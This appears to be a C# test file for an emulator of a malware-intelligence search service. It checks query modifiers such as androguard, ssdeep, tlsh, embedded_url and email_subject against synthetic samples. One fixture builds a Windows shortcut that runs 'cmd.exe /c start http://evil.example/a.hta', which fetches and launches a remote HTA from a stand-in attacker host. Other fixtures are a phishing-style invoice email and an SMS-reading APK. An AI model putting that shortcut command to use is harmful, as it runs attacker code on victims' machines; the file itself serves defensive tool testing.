using System.IO.Compression;
using System.Security.Cryptography;
using VtKit.StaticAnalysis.Tests;

namespace VtKit.Emulator.Tests;

/// <summary>Modifiers that ask for what lies deeper in files of certain formats, and for files that are alike.</summary>
public sealed class FormatModifierTests
{
    [Fact]
    public async Task What_packages_shortcuts_and_libraries_say_is_found()
    {
        await using var emulator = await EmulatorFixture.StartAsync();
        var apk = await UploadAsync(emulator, Package(), "torch.apk");
        var lnk = await UploadAsync(emulator, new ShortcutBuilder
        {
            Target = ["Windows", "System32", "cmd.exe"],
            Texts = ["Open the invoice", null, @"C:\Temp", "/c start http://evil.example/a.hta", null],
        }.Build(), "invoice.lnk");
        var dll = await UploadAsync(emulator, await Library("VtKit.Indicators.dll"), "a.dll");
        var attributes = (await emulator.GetAsync("/files/" + dll))["data"]!["attributes"]!;
        ((string)(await emulator.GetAsync("/files/" + apk))["data"]!["attributes"]!["androguard"]!["Package"]!).ShouldBe("org.example.torch");

        await ExpectAsync("androguard:READ_SMS", apk);
        await ExpectAsync("androguard:SEND_SMS");
        await ExpectAsync("androguard_package:org.example.torch", apk);
        await ExpectAsync("have:androguard", apk);
        await ExpectAsync("metadata:a.hta", lnk);
        await ExpectAsync("tag:lnk", lnk);
        await ExpectAsync($"netguid:{attributes["dot_net_guids"]!["mvid"]}", dll);
        await ExpectAsync("signature:\"VtKit.Indicators\"", dll);
        await ExpectAsync($"ssdeep:\"{attributes["ssdeep"]}\"", dll);
        await ExpectAsync($"tlsh:{attributes["tlsh"]}", dll);

        async Task ExpectAsync(string query, params string[] ids) => (await FindAsync(emulator, query)).ShouldBe(ids, query);
    }

    [Fact]
    public async Task What_stands_in_files_and_what_messages_are_about_is_found()
    {
        await using var emulator = await EmulatorFixture.StartAsync();
        var dll = await UploadAsync(emulator, await Library("VtKit.Indicators.dll"), "a.dll");
        var mail = await UploadAsync(emulator, "From: a@example.com\r\nTo: b@example.com\r\nSubject: =?utf-8?Q?Your_unpaid_invoice?=\r\nDate: Mon, 1 Jan 2024 00:00:00 +0000\r\n\r\nhttp://pay.example.net/gate.php?a=1\r\n198.41.0.4\r\n"u8.ToArray(), "mail.eml");
        var attributes = (await emulator.GetAsync("/files/" + dll))["data"]!["attributes"]!;

        await ExpectAsync($"authentihash:{attributes["authentihash"]}", dll);
        await ExpectAsync("have:authentihash", dll);
        await ExpectAsync("authentihash:" + new string('0', 64));
        await ExpectAsync("embedded_domain:Pay.example.net", mail);
        await ExpectAsync("embedded_domain:example.net");
        await ExpectAsync("embedded_url:\"pay.example.net/gate.php\"", mail);
        await ExpectAsync("embedded_url:\"pay.example.net/other\"");
        await ExpectAsync("embedded_ip:198.41.0.4", mail);
        await ExpectAsync("embedded_ip:198.41.0.0/24", mail);
        await ExpectAsync("embedded_ip:198.41.1.0/24");
        await ExpectAsync("have:embedded_ip", mail);
        await ExpectAsync("have:embedded_urls tag:email", mail);
        await ExpectAsync("email_subject:\"unpaid invoice\"", mail);
        await ExpectAsync("email_subject:\"invoice unpaid\"");
        await ExpectAsync("have:email_subject", mail);

        async Task ExpectAsync(string query, params string[] ids) => (await FindAsync(emulator, query)).ShouldBe(ids, query);
    }

    [Fact]
    public async Task Files_like_one_are_those_that_its_relationship_has()
    {
        await using var emulator = await EmulatorFixture.StartAsync();
        var content = await Library("VtKit.Indicators.dll");
        var first = await UploadAsync(emulator, content, "a.dll");
        var second = await UploadAsync(emulator, await Library("VtKit.StaticAnalysis.dll"), "b.dll");
        (await FindAsync(emulator, $"similar-to:{first}")).ShouldBe([second]);
        (await FindAsync(emulator, $"similar-to:{Convert.ToHexStringLower(MD5.HashData(content))}")).ShouldBe([second]);
        (await FindAsync(emulator, $"similar-to:{second}")).ShouldBe([first]);
        (await FindAsync(emulator, "similar-to:" + EmulatorFixture.EicarSha256)).ShouldBeEmpty();
        (await FindAsync(emulator, "similar-to:nothing")).ShouldBeEmpty();
    }

    private static async Task<string[]> FindAsync(EmulatorFixture emulator, string query) =>
        Hunts.Ids(await emulator.GetAsync("/intelligence/search?query=" + Uri.EscapeDataString(query)));

    private static async Task<string> UploadAsync(EmulatorFixture emulator, byte[] content, string name)
    {
        await emulator.UploadAsync(content, name);
        return Convert.ToHexStringLower(SHA256.HashData(content));
    }

    private static Task<byte[]> Library(string name) => File.ReadAllBytesAsync(Path.Combine(AppContext.BaseDirectory, name));

    private static byte[] Package()
    {
        var manifest = new BinaryXmlBuilder().Open("manifest", ("package", 0, "org.example.torch"))
            .Add("uses-permission", ("name", 0x0101_0003, "android.permission.READ_SMS")).Close("manifest").Build();
        using var bytes = new MemoryStream();
        using (var zip = new ZipArchive(bytes, ZipArchiveMode.Create, leaveOpen: true))
        {
            foreach (var (entry, content) in new[] { ("AndroidManifest.xml", manifest), ("classes.dex", "dex\n035\0"u8.ToArray()) })
            {
                using var stream = zip.CreateEntry(entry).Open();
                stream.Write(content);
            }
        }
        return bytes.ToArray();
    }
}
